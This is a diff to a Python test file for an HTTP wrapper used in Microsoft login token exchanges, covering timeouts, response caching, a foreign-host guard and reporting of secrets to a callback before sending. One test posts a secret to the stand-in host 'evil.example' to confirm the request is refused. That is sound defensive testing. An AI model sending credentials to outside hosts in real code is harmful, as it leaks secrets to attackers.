@@ -20,7 +20,8 @@ URL = "https://login.microsoftonline.com/x"
 def test_limits_are_set_whatever_msal_says(settings_with: Make, session_with: Any, respond: Any) -> None:
     session = session_with(respond(200, {}), respond(200, {}))
     counters = RequestCounters()
-    http = LoginHttp(settings_with(timeout_seconds=33), session, counters)
+    heard: list[str] = []
+    http = LoginHttp(settings_with(timeout_seconds=33), session, counters, heard.append)
     http.get(URL, headers={"a": "b"}, allow_redirects=True, timeout=None)
     http.post(URL, data={"scope": "s"}, headers={})
     for sent in session.sent:
@@ -38,7 +39,7 @@ def test_the_last_answer_is_remembered_and_forgotten(settings_with: Make, sessio
         respond(500, "[1]"),
         respond(200, {"access_token": "odd"}),
     )
-    http = LoginHttp(settings_with(), session, RequestCounters())
+    http = LoginHttp(settings_with(), session, RequestCounters(), [].append)
     seen = []
     for _attempt in range(4):
         http.get(URL)
@@ -59,6 +60,17 @@ def test_the_last_answer_is_remembered_and_forgotten(settings_with: Make, sessio
 def test_a_foreign_host_gets_nothing(settings_with: Make, session_with: Any) -> None:
     session = session_with()
     with pytest.raises(SmimeError) as caught:
-        LoginHttp(settings_with(), session, RequestCounters()).post("https://evil.example/token", data={"secret": "x"})
+        LoginHttp(settings_with(), session, RequestCounters(), [].append).post(
+            "https://evil.example/token", data={"secret": "x"}
+        )
     assert caught.value.code == "exchange.foreign_host"
     assert session.sent == []
+
+
+def test_secrets_are_told_before_they_are_sent(settings_with: Make, session_with: Any, respond: Any) -> None:
+    session = session_with(respond(200, {}), respond(200, {}))
+    heard: list[str] = []
+    http = LoginHttp(settings_with(), session, RequestCounters(), heard.append)
+    http.post(URL, data={"scope": "s", "client_secret": "the secret"})
+    http.post(URL, data={"scope": "s", "client_assertion": "the assertion"})
+    assert heard == ["the secret", "the assertion"]
